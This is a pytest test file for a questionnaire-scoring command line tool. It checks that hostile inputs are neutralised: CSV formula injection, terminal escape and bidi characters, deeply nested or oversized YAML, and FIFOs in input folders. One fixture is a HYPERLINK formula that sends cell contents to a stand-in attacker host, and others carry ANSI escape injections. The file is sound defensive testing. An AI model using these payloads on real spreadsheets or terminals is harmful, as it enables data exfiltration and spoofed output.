"""The command line on hostile input files (review fuzz7, findings 11–15): one line
naming the file, a CSV that a spreadsheet cannot run, tables that cannot drive the
terminal, and no hang on a FIFO."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from levelcheck.cli import main, terminal_safe

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
EXAMPLE = EXAMPLES / "02-level2-hanmoru-precision.json"


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def example(tmp_path: Path, name: str, **change: object) -> Path:
    data = json.loads(EXAMPLE.read_text(encoding="utf-8"))
    if "company" in change:
        data["company"]["name"] = change["company"]
    if "answer" in change:
        data["answers"]["STR-SL-01"] = change["answer"]
    p = tmp_path / name
    p.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return p


# --- 12: score --format csv guards against formulas, as export does ----------------------


def test_score_csv_guards_company_and_file_against_formulas(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    example(tmp_path, "=1+1.json", company=evil)
    example(tmp_path, "plain.json", company="@SUM(A1)")
    code, out, _ = run(capsys, "score", "=1+1.json", "plain.json", "--format", "csv")
    assert code == 0
    rows = list(csv.reader(io.StringIO(out)))
    assert [r[:2] for r in rows[1:]] == [["'=1+1.json", "'" + evil], ["plain.json", "'@SUM(A1)"]]


# --- 15: control characters in the tables --------------------------------------------------


def test_terminal_safe_escapes_controls_and_bidi_but_keeps_korean() -> None:
    assert terminal_safe("A\u202eB\x1b[31mRED\x07\x9b\u2066\x7f") == (
        "A\\u202eB\\x1b[31mRED\\x07\\x9b\\u2066\\x7f"
    )
    assert terminal_safe("(주)한모루정밀 — «A&B», 1.5%\t") == "(주)한모루정밀 — «A&B», 1.5%\t"


def test_score_and_roadmap_tables_show_control_characters_escaped(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    p = example(tmp_path, "ctrl.json", company="A\u202eB\x1b[31mRED\x07\n")
    for command in (["score", str(p)], ["roadmap", str(p)]):
        code, out, _ = run(capsys, *command, "--lang", "en")
        assert code in (0, 1)
        assert "A\\u202eB\\x1b[31mRED\\x07\\x0a" in out
        assert not any(c in out for c in "\x1b\x07\u202e")


def test_report_verify_and_validate_lines_show_control_characters_escaped(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every line for a person goes out escaped, not only the tables: a signer's name
    in someone else's PDF, a file name in a batch's error, a key in a content file."""
    monkeypatch.setenv("LEVELCHECK_CONFIG_DIR", str(tmp_path / "config"))
    hostile = "Kim\x1b[31mRED\u202e"
    assert run(capsys, "keys", "init", "--name", hostile, "--organisation", "Org")[0] == 0
    pdf = tmp_path / "r.pdf"
    assert run(capsys, "report", str(EXAMPLE), "-o", str(pdf))[0] == 0
    code, out, _ = run(capsys, "verify", str(pdf))
    assert code == 0 and "CN=Kim\\x1b[31mRED\\u202e" in out
    batch = tmp_path / "batch"
    batch.mkdir()
    (batch / "bad\x1b[31m.json").write_text('{"format": 1', encoding="utf-8")
    code, _, err = run(capsys, "report", str(batch), "--out-dir", str(tmp_path / "o"),
                       "--unsigned")  # fmt: skip
    assert code == 2 and "bad\\x1b[31m.json" in err
    content = tmp_path / "content"
    content.mkdir()
    ruleset = (EXAMPLES.parent / "questionnaires" / "ks-default.ruleset.yaml").read_text(
        encoding="utf-8"
    )
    (content / "r.ruleset.yaml").write_text(
        ruleset.replace("id: ks-default", "id: ks-other", 1) + '"\\e[31mevil": 1\n',
        encoding="utf-8",
    )
    code, out, _ = run(capsys, "validate", str(content))
    assert code == 1 and "\\x1b[31mevil" in out
    for text in (out, err):
        assert not any(c in text for c in "\x1b\u202e")


# --- 14: roadmap's errors name the file; N/A without a justification is said so ------------


def test_roadmap_errors_name_the_file(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    p = example(tmp_path, "level7.json", answer={"level": 7})
    code, _, err = run(capsys, "roadmap", str(p))
    assert code == 2
    assert err == (
        f"levelcheck: {p}: answers.STR-SL-01.level: 7 is above the questionnaire's top level 5\n"
    )


def test_roadmap_names_an_unjustified_na(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    p = example(tmp_path, "na.json", answer={"na": True})
    code, _, err = run(capsys, "roadmap", str(p))
    assert code == 2
    assert err == (
        f"levelcheck: {p}: STR-SL-01 is N/A without a justification; "
        "rate every item before planning\n"
    )


# --- 11: content YAML nested too deeply or with a huge number --------------------------------


def test_validate_and_content_commands_give_one_line_for_deep_or_huge_yaml(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    deep = tmp_path / "deep"
    deep.mkdir()
    (deep / "my.ruleset.yaml").write_text("[" * 5000 + "]" * 5000 + "\n", encoding="utf-8")
    big = tmp_path / "big"
    big.mkdir()
    shipped = (EXAMPLES.parent / "questionnaires" / "ks-default.ruleset.yaml").read_text("utf-8")
    assert "min_total: 650" in shipped
    mine = shipped.replace("id: ks-default", "id: my-rules", 1)
    (big / "my.ruleset.yaml").write_text(
        mine.replace("min_total: 650", "min_total: " + "9" * 5000, 1), encoding="utf-8"
    )
    code, out, _ = run(capsys, "validate", str(deep))
    assert code == 1
    assert out.startswith(f"{deep / 'my.ruleset.yaml'}:1:102: nested too deeply")
    code, out, _ = run(capsys, "validate", str(big))
    assert code == 1
    assert out.splitlines()[0].endswith(": number too long")
    code, _, err = run(capsys, "--content", str(big), "score", str(EXAMPLE))
    assert code == 2
    assert err.count("\n") == 1 and err.endswith(": number too long\n")


# --- 13: a FIFO where an input file is expected ------------------------------------------------


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_fifos_in_a_folder_are_skipped_with_one_line_each(tmp_path: Path) -> None:
    folder = tmp_path / "F"
    folder.mkdir()
    (folder / "a.json").write_bytes(EXAMPLE.read_bytes())
    os.mkfifo(folder / "x.json")
    os.mkfifo(folder / "y.levelcheck")
    env = {**os.environ, "LANG": "C.UTF-8"}
    # a subprocess with a timeout: the bug was a hang, which must fail, not block the suite
    done = subprocess.run([sys.executable, "-m", "levelcheck", "score", str(folder)],
                          capture_output=True, text=True, timeout=60, env=env)  # fmt: skip
    assert done.returncode == 2
    assert "a.json" in done.stdout
    assert done.stderr.splitlines() == [
        f"levelcheck: {folder / 'x.json'}: not a regular file (a device or a pipe)",
        f"levelcheck: {folder / 'y.levelcheck'}: not a regular file (a device or a pipe)",
    ]
    for command in (["roadmap"], ["import", "-o", str(tmp_path / "o.levelcheck")],
                    ["export", "-o", str(tmp_path / "o.json")]):  # fmt: skip
        done = subprocess.run([sys.executable, "-m", "levelcheck", *command,
                               str(folder / "y.levelcheck")],
                              capture_output=True, text=True, timeout=60, env=env)  # fmt: skip
        assert done.returncode == 2
        assert done.stderr.endswith("not a regular file (a device or a pipe)\n")
